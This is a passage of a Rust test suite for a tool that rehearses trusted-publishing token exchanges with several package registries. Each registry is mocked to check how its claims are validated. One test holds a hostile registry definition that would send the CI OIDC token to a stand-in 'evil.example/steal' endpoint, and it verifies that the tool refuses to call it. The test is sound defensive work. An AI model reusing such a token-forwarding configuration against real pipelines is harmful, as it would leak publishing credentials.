            https://api.nuget.org/v3/index.json --api-key ${{ steps.login.outputs.NUGET_API_KEY }}\n",
    more: "    policy-user: acme-bot\n",
    file: None,
};

/// NuGet's exchange (GitHubTokenPolicyValidator.cs).
fn nuget(request: &Received) -> Reply {
    let refused = |error: &str| reply(401, json!({"error": error}));
    assert_eq!(request.path, "/api/v2/token");
    let body = request.json();
    assert_eq!(body["tokenType"], "ApiKey");
    let Some(claims) = claims_of(request.bearer()).filter(|claims| claims["aud"] == "https://www.nuget.org") else {
        return refused("The bearer token is not valid.");
    };
    let path = text(&claims, "job_workflow_ref");
    if text(&body, "username") != "acme-bot" || !text(&claims, "repository").eq_ignore_ascii_case("acme/demo") {
        return refused(&format!("No matching trust policy owned by user '{}' was found.", text(&body, "username")));
    }
    if claims["event_name"] == "pull_request_target" {
        return refused("The GitHub Actions event 'pull_request_target' is not allowed.");
    }
    if !path.to_lowercase().starts_with("acme/demo/.github/workflows/") {
        return refused(&format!(
            "Claim 'job_workflow_ref' has value '{path}' which does not start with acme/demo/.github/workflows/."
        ));
    }
    let workflow = file(&claims, "job_workflow_ref");
    if !workflow.eq_ignore_ascii_case("release.yml") {
        return refused(&format!("Workflow mismatch for policy 'P': expected 'release.yml', actual '{workflow}'"));
    }
    let environment = text(&claims, "environment");
    if !environment.eq_ignore_ascii_case("release") {
        return refused(&format!("Environment mismatch for policy 'P': expected 'release', actual '{environment}'"));
    }
    reply(200, json!({"tokenType": "ApiKey", "apiKey": ISSUED}))
}

#[test]
fn nuget_names_the_policy_and_the_claim() {
    let (_, ran) = NUGET.accepted(nuget);
    assert!(ran.out.contains("permanent"), "what the exchange changes is said: {}", ran.out);
    let job_workflow_ref = |path: &str| ("job_workflow_ref", json!(format!("{path}@refs/heads/main")));
    NUGET.refused(
        nuget,
        job_workflow_ref("acme/demo/.github/workflows/other.yml"),
        ("workflow", "Workflow mismatch for policy"),
    );
    NUGET.refused(nuget, ("environment", Value::Null), ("environment", "Environment mismatch for policy"));
    NUGET.refused(
        nuget,
        ("repository", json!("acme/other")),
        ("repository", "No matching trust policy owned by user 'acme-bot'"),
    );
    let server = serve(with("environment", json!("release")), nuget);
    let ran = NUGET.rehearse(&server, &["--user", "other-user"]);
    assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{}", ran.out);
    assert!(ran.out.contains("`user` is not the user who created the policy"), "{}", ran.out);
}

const HEX: Publishing = Publishing {
    registry: "hex",
    package: "demo",
    steps: "      - run: |\n          TOKEN=$(curl -sS https://hex.pm/api/oauth/token -d assertion=\"$JWT\" | jq -r .access_token)\n          \
            HEX_API_KEY=\"Bearer $TOKEN\" mix hex.publish --yes\n",
    more: "",
    file: None,
};

/// Hex.pm's exchange (its documentation of workload identities).
fn hex(request: &Received) -> Reply {
    let refused = |error: &str, why: &str| reply(400, json!({"error": error, "error_description": why}));
    assert_eq!(request.path, "/api/oauth/token");
    assert_eq!(request.headers["content-type"], "application/x-www-form-urlencoded");
    let form = request.form();
    if form["grant_type"] != "urn:ietf:params:oauth:grant-type:jwt-bearer" {
        return refused("unsupported_grant_type", "");
    }
    if form["scope"] != "package:hexpm/demo" {
        return refused("invalid_scope", "unknown scope");
    }
    let Some(claims) = claims_of(&form["assertion"]).filter(|claims| claims["aud"] == "hexpm") else {
        return refused("invalid_grant", "invalid token");
    };
    if ["pull_request_target", "workflow_run"].contains(&text(&claims, "event_name")) {
        return refused("invalid_grant", "event is not allowed");
    }
    if fits(&claims, RELEASED, "workflow_ref", true) {
        reply(200, json!({"access_token": ISSUED, "token_type": "bearer", "expires_in": 900}))
    } else {
        refused("access_denied", "no matching workload identity")
    }
}

#[test]
fn hex_exchanges_by_oauth() {
    HEX.accepted(hex);
    HEX.refused(hex, ("environment", json!("other")), ("environment", "access_denied: no matching workload identity"));
    HEX.refused(hex, ("repository", json!("other/demo")), ("owner", "access_denied"));
    let other = json!("acme/demo/.github/workflows/other.yml@refs/heads/main");
    HEX.refused(hex, ("workflow_ref", other), ("workflow", "access_denied"));
}

const OPEN_VSX: Publishing = Publishing {
    registry: "open-vsx",
    package: "acme.demo",
    steps: "      - run: npx ovsx publish --trusted-publishing\n",
    more: "",
    file: None,
};

/// Open VSX's exchange (TrustedPublishingAPI.java): the ids of owner and repository, and the text of the workflow's path.
fn open_vsx(request: &Received) -> Reply {
    assert_eq!(request.path, "/api/-/trusted-publishing/token");
    let body = request.json();
    assert_eq!((text(&body, "namespace"), text(&body, "extension")), ("acme", "demo"));
    let Some(claims) = claims_of(text(&body, "token")).filter(|claims| claims["aud"] == "https://open-vsx.org") else {
        return reply(403, json!({"error": "The token could not be validated."}));
    };
    let path = text(&claims, "workflow_ref").split('@').next().unwrap_or_default();
    let same = claims["repository_id"] == "74"
        && claims["repository_owner_id"] == "65"
        && path == "acme/demo/.github/workflows/release.yml"
        && claims["environment"] == "release";
    if same {
        reply(201, json!({"value": ISSUED}))
    } else {
        reply(403, json!({"error": "No trusted publisher matches the presented token."}))
    }
}

#[test]
fn open_vsx_exchanges_a_token_for_an_extension() {
    OPEN_VSX.accepted(open_vsx);
    let text = "No trusted publisher matches the presented token.";
    OPEN_VSX.refused(open_vsx, ("environment", json!("Release")), ("environment", text));
    let other = json!("acme/demo/.github/workflows/other.yml@refs/heads/main");
    OPEN_VSX.refused(open_vsx, ("workflow_ref", other), ("workflow", text));
    // Names of owner and repository are not compared, so a change of ids has no field of its own.
    let mut claims = with("environment", json!("release"));
    claims["repository_id"] = json!("75");
    let ran = OPEN_VSX.rehearse(&serve(claims, open_vsx), &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{}", ran.out);
    assert!(ran.out.contains("the one that is registered differs from the declared one"), "{}", ran.out);
}

const MCP: Publishing = Publishing {
    registry: "mcp",
    package: "",
    steps: "      - run: |\n          ./mcp-publisher login github-oidc\n          ./mcp-publisher publish\n",
    more: "",
    file: Some(("server.json", r#"{"name": "io.github.acme/demo", "version": "1.0.0"}"#)),
};

/// The exchange of the MCP Registry (auth/github_oidc.go): every owner gets a token for his own names.
fn mcp(request: &Received) -> Reply {
    assert_eq!(request.path, "/v0/auth/github-oidc");
    let body = request.json();
    match claims_of(text(&body, "oidc_token")) {
        Some(claims) if claims["aud"] == "https://registry.modelcontextprotocol.io" => {
            reply(200, json!({"registry_token": ISSUED, "expires_at": 1}))
        }
        _ => reply(
            401,
            json!({
                "title": "Unauthorized",
                "status": 401,
                "detail": "Token exchange failed",
                "errors": [{"message": "failed to validate OIDC token: invalid audience"}],
            }),
        ),
    }
}

#[test]
fn the_mcp_registry_compares_the_name_only_at_the_upload() {
    MCP.accepted(mcp);
    // The registry counts the case of the owner.
    for owner in ["Acme/demo", "other/demo"] {
        let mut claims = with("environment", json!("release"));
        claims["repository"] = json!(owner);
        let ran = MCP.rehearse(&serve(claims, mcp), &[]);
        assert_eq!((ran.status, ran.outcome()), (Some(1), "accepted"), "{}", ran.out);
        assert_eq!(ran.fields("rehearsal-mismatch"), ["owner"], "{}", ran.out);
        assert!(ran.out.contains("server.json:1:10"), "{}", ran.out);
    }
    let broken = |request: &Received| mcp(&Received { body: "{}".to_owned(), ..request.clone() });
    let ran = MCP.rehearse(&serve(with("environment", json!("release")), broken), &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{}", ran.out);
    assert!(ran.out.contains("Token exchange failed: failed to validate OIDC token"), "{}", ran.out);
}

#[test]
fn without_an_exchange_only_claims_are_compared() {
    let publishing = Publishing {
        registry: "jsr",
        package: "@acme/demo",
        steps: "      - run: npx jsr publish\n",
        more: "",
        file: None,
    };
    let server = serve(with("environment", json!("release")), |_: &Received| reply(500, json!({})));
    let workflow = workflow(publishing.steps).replace("environment: pypi", "environment: release");
    let config = "repository: acme/demo\npublishers:\n  - registry: jsr\n    package: \"@acme/demo\"\n    repository: acme/demo\n";
    let ran = rehearse_with(&[(RELEASE, workflow.as_str()), (".github/trustpub.yaml", config)], &server, &[], &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(0), "not-made"), "{}{}", ran.out, ran.err);
    assert!(ran.out.contains("no exchange of JSR is known, so only the claims are compared"), "{}", ran.out);
    assert_eq!(server.received("/").len(), server.received("/token-service").len());
}

#[test]
fn an_exchange_of_a_user_registry_is_not_made() {
    // Such a file may come from a pull request, and the address of its exchange would get a token for the audience that it names.
    let server = serve(claims(), |_: &Received| reply(200, json!({"token": ISSUED})));
    let registry = "name: Evil\naudience: pypi\nendpoints: { uploads: [\"https://evil.example/legacy/\"], names: [evil], hosts: [evil.example] }\n\
                    exchange: { address: \"https://evil.example/steal\", json: { token: \"{oidc-token}\" }, token: token }\n\
                    uploads:\n  - { command: evil publish, oidc: native, order: token-first, endpoint: { default: evil } }\n";
    let workflow = workflow("      - run: evil publish\n");
    let files = [
        (RELEASE, workflow.as_str()),
        (".github/trustpub.yaml", "extra-rules: [.github/trustpub]\n"),
        (".github/trustpub/registries/evil.yaml", registry),
    ];
    let ran = rehearse_with(&files, &server, &["--allow-side-effects"], &[]);
    assert_eq!(ran.outcome(), "not-made", "{}{}", ran.out, ran.err);
    assert!(server.received("/steal").is_empty());
    assert!(server.received("/token-service").iter().all(|request| !request.path.ends_with("=pypi")));
}

/// The log that a rehearsal with this declared publisher writes.
fn sarif(declared: Registered) -> Value {
    let server = serve(claims(), pypi(FITTING));
    let project = project(&[
        (RELEASE, workflow(PYPI).as_str()),
        (".github/trustpub.yaml", config("pypi", "demo", declared, "").as_str()),
    ]);
    let output = Command::new(env!("CARGO_BIN_EXE_trustpub"))
        .args([
            "rehearse",
            "--job",
            "publish",
            "--allow-side-effects",
            "--format",
            "sarif",
            "--loopback",
            &server.address,
        ])
        .current_dir(project.path())
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_JOB", "rehearse")
        .env("GITHUB_WORKFLOW_REF", "acme/demo/.github/workflows/release.yml@refs/heads/main")
        .env("ACTIONS_ID_TOKEN_REQUEST_URL", "https://token.example/token-service?api-version=2.0")
        .env("ACTIONS_ID_TOKEN_REQUEST_TOKEN", REQUEST_TOKEN)
        .output()
        .unwrap();
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn code_scanning_gets_the_problems_at_their_lines() {
    let log = sarif(Registered("acme", "demo", "release.yml", "release"));
    let run = &log["runs"][0];
    assert_eq!(run["automationDetails"]["id"], "trustpub-rehearsal/");
    let [result] = run["results"].as_array().unwrap().as_slice() else { panic!("{run}") };
    assert_eq!(result["ruleId"], "rehearsal-mismatch");
    let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], "rehearsal-mismatch");
    let location = &result["locations"][0]["physicalLocation"];
    assert_eq!(location["artifactLocation"]["uri"], RELEASE);
    assert_eq!(location["region"]["snippet"]["text"], "pypi");
    assert_eq!(result["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"], ".github/trustpub.yaml");
    // A log without results closes the alerts of earlier rehearsals.
    assert_eq!(sarif(FITTING)["runs"][0]["results"], json!([]));
}

#[cfg(unix)]
#[test]
fn the_action_passes_its_inputs_on() {
    use std::os::unix::fs::PermissionsExt as _;
    let action = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("rehearse/action.yml")).unwrap();
    let action: serde_yaml::Value = serde_yaml::from_str(&action).unwrap();
    let script = action["runs"]["steps"][1]["run"].as_str().unwrap();
    let server = serve(with("environment", json!("release")), nuget);
    let (workflow, config) = (
        workflow(NUGET.steps).replace("environment: pypi", "environment: release"),
        config("nuget", "Demo", RELEASED, NUGET.more),
    );
    let project = project(&[
        (RELEASE, workflow.as_str()),
        (".github/trustpub.yaml", config.as_str()),
        ("summary.md", ""),
        ("output", ""),
    ]);
    let program = project.path().join("program");
    let text = format!("#!/bin/sh\nexec {} \"$@\" --loopback {}\n", env!("CARGO_BIN_EXE_trustpub"), server.address);
    std::fs::write(&program, text).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let inputs = [
        ("JOB", "publish"),
        ("WORKFLOW", "release.yml"),
        ("REGISTRY", "nuget"),
        ("PACKAGE", "Demo"),
        ("LOGIN_USER", "acme-bot"),
        ("SIDE_EFFECTS", "true"),
        ("CHECKED", "."),
        ("SARIF", "out.sarif"),
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_JOB", "rehearse"),
        ("GITHUB_WORKFLOW_REF", "acme/demo/.github/workflows/release.yml@refs/heads/main"),
        ("GITHUB_STEP_SUMMARY", "summary.md"),
        ("GITHUB_OUTPUT", "output"),
        ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", REQUEST_TOKEN),
        ("ACTIONS_ID_TOKEN_REQUEST_URL", "https://token.example/token-service?api-version=2.0"),
    ];
    let output = Command::new("bash")
        .args(["-c", script])
        .env("PROGRAM", &program)
        .envs(inputs)
        .current_dir(project.path())
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let read = |name: &str| std::fs::read_to_string(project.path().join(name)).unwrap();
    assert_eq!(read("output"), "exit-code=0\n");
    assert!(read("summary.md").contains("accepted") && read("out.sarif").contains("2.1.0"));
    let texts = [read("summary.md"), read("out.sarif"), String::from_utf8(output.stdout).unwrap()];
    assert!(texts.iter().all(|text| !text.contains(ISSUED) && !text.contains(SIGNATURE)));
}
